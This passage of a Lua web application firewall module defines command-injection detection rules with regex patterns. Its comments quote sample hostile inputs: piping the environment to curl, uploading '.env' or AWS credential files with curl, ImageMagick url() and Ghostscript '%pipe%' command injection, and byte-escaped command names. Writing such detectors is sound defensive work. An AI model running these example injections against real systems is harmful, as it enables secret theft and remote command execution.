                      pattern = [=[(?:^|\s)(?:-[a-z]*e|--expression)(?:=|\s*)['"]?]=]
                          .. [=[(?:\d+|\$|/[^/\n]{0,80}/)\s*e\s+[a-z]]=],
                      plain = false }
-- ... or a value that is one option given a file whose name says it holds
-- a secret ("--config /srv/app/secrets.yml", "-K ~/.aws/credentials"):
-- the program reads it and shows or sends what it read
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { "secret", "credential", "passw", ".env", "id_rsa", ".pem",
                                  "token" },
                      pattern = [=[^\s*-{1,2}[a-z][\w-]*(?:\s*=\s*|\s+)["']?[/~][^\s"']*]=]
                          .. [=[(?:]=] .. waf_match.SECRET_FILE .. [=[)]=]
                          .. [=[[^\s"']*["']?\s*$]=],
                      plain = false }
-- ... or a value that opens with an option whose operand reads such a
-- file in by "@" ("-F 'doc=@/srv/app/.env' https://...", a form's field
-- given "@/etc/app/secrets.json"), or any absolute path before a URL:
-- curl sends what it read wherever the rest says
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { "=@", " @", "'@", '"@' },
                      pattern = [=[^\s*-{1,2}[a-z][\w-]*(?:\s*=\s*|\s+)["']?(?:[\w.\[\]-]+=)?@]=]
                          .. [=[(?:[/~][^\s"']*(?:]=] .. waf_match.SECRET_FILE .. [=[)]=]
                          -- (or any absolute path, then a URL a few words on:
                          -- the server's file sent to a host the value names)
                          .. [=[|/[^\s"']+["']?(?:\s+\S+){0,4}?\s+(?:https?|ftps?)://)]=],
                      plain = false }
-- ... or an argument list (options first) whose output option is given a
-- path in a web root ("-o /var/www/html/index.html"): the program writes
-- the page the site serves
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { "www", "htdocs", "public_html", "inetpub", "webapps",
                                  "webroot" },
                      pattern = [=[^\s*(?:-[^\n]{0,200}?\s)?(?:-o|-O]=]
                          .. [=[|--(?:[a-z]+[_-])?out(?:put)?(?:[_-][a-z]+)?)]=]
                          .. [=[(?:\s*=\s*|\s+|(?<=-o)|(?<=-O))["']?/[^\s'"]*?/]=]
                          .. [=[(?:www|wwwroot|webroot|htdocs|public_html|inetpub|webapps)/]=],
                      plain = false }
-- ... or a value that opens with the option naming the program's
-- configuration (or a file it loads and runs), given a place uploads land
-- or anyone writes, or the program's own input ("--config /dev/stdin",
-- "-rcfile /var/app/tmp/x.cfg"): what that file says, the program does
RULES[#RULES + 1] = { id = "rce-argument", where = NOT_PATH,
                      needles = { "/tmp/", "/shm/", "upload", "/dev/stdin", "/dev/fd/",
                                  "/proc/self/fd/" },
                      pattern = [=[^\s*-{1,2}(?:config|conf|cfg|rcfile|rc|init-file|settings]=]
                          .. [=[|include|load|preload|script)(?:-file)?(?:\s*=\s*|\s+)["']?]=]
                          .. [=[(?:/dev/(?:stdin|fd/\d)|/proc/self/fd/\d]=]
                          .. [=[|[\w./-]{0,200}?/(?:tmp|shm|uploads?)/)]=],
                      plain = false }
-- A word bash's ANSI-C quoting spells only in byte escapes ("$'\x63\x61
-- \x74'" is cat): a name written to hide it; a script's "$'\n'" or
-- "$'\t'" is a control byte, no name
-- (read as the value was written, URL-decoded only: the decoded view
-- has the bytes, "$'cat'")
local RE_ANSI_C_NAME = [=[\$'(?:\\[xX][0-9a-fA-F]{2}|\\[0-7]{3}){2,}']=]
-- (a check that reads the value as it was written, URL-decoded only)
local function as_written(re)
    return function(_, v)
        return re_find(waf_match.url_decoded(v.raw, 3), re, "jo") ~= nil
    end
end
-- ImageMagick's URL delegate (an MVG's or an SVG's "url(...)"): a URL that
-- closes the delegate command's double quote and pipes into a command of
-- its own ("url(https://img.example.net/a.png"|id")"), run by the shell the
-- delegate is passed to
RULES[#RULES + 1] = { id = "rce-command", where = NOT_PATH, needles = { "url(" },
                      pattern = [=[\burl\(\s*[^()\n"]{0,300}"\s*\|\s*[a-z][^"()\n]{0,200}"\s*\)]=],
                      plain = false }
RULES[#RULES + 1] = { id = "rce-command", where = NOT_PATH, needles = { "$'" },
                      plain = false, check = as_written(RE_ANSI_C_NAME) }
-- ... or a substitution whose command prints only byte escapes ("`printf
-- '\151\144'`", "$(echo -e '\x69\x64')"): its output, a name written to
-- hide it, is what the substitution stands for, and a command in its
-- place
local RE_PRINTF_NAME = [=[(?:`|\$\()\s*(?:printf|echo\s+-e)\s+(['"]?)]=]
    .. [=[(?:\\[xX][0-9a-fA-F]{2}|\\[0-7]{3}){2,}\1\s*(?:`|\))]=]
RULES[#RULES + 1] = { id = "rce-command", where = NOT_PATH, needles = { "printf", "echo" },
                      plain = false, check = as_written(RE_PRINTF_NAME) }
-- The environment piped to a program that sends it ("env | curl -X POST
-- --data-binary @- https://..."): every secret the process holds, out
RULES[#RULES + 1] = { id = "rce-command", where = NOT_PATH, needles = { "env" },
                      pattern = [=[\b(?:print)?env\s*\|\s*(?:curl|wget|nc|ncat|socat|telnet)\b]=],
                      plain = false }
-- Ghostscript's pipe device: an output file "%pipe%cmd" runs cmd
RULES[#RULES + 1] = { id = "rce-command", where = NOT_PATH, needles = { "%pipe%" },
                      pattern = [=[%pipe%[\w/.$`-]]=], plain = false }
rules.compile(RULES, _M.RULES)


function _M.detect(v, on, report, where, name)
    if rules.run(COMMANDS, v, on, report, where, name) then
        return true
    end
    if not re_find(v.low, GATE, "jo") then
        return false
    end
    return rules.run(RULES, v, on, report, where, name)
end


_M.PLAIN_NEEDLES = rules.plain_needles({}, COMMANDS, RULES)


function _M.plain_maybe(low)
    local n = #low
    local i = 1
    while byte(low, i) == 32 or byte(low, i) == 43 do
        i = i + 1
    end
    if i > n then
        return false
    end
    local w = read_word(low, i, n)
    if w == "" then
        return false
    end
    return PREFIX[w] or LONE[w] or known(w) or windows_name(w, w) ~= nil
end


_M.PATTERNS = rules.patterns({ RE_SHELL_ARG, RE_START_ARG, RE_NUMBER_ARG, RE_REDIRECT_ARG,
                               RE_INTERP_ARG, RE_BIN, RE_ASSIGN, waf_match.RE_COMMAND_PARAM,
                               RE_VERSION_WORDS, RE_CRON_LINE,
                               GATE, SEP, RE_DELAY_PING, RE_OPTIONS_ONLY }, COMMANDS, RULES)
for _, p in pairs(RE_INLINE_CODE) do
    _M.PATTERNS[#_M.PATTERNS + 1] = p
end
_M.STRONG = STRONG
-- every word set, for tests that generate values
_M.VOCABULARY = { STRONG, PROSE, LONE, INTERPRETERS, WEAK, PREFIX, WRAPPER }

return _M
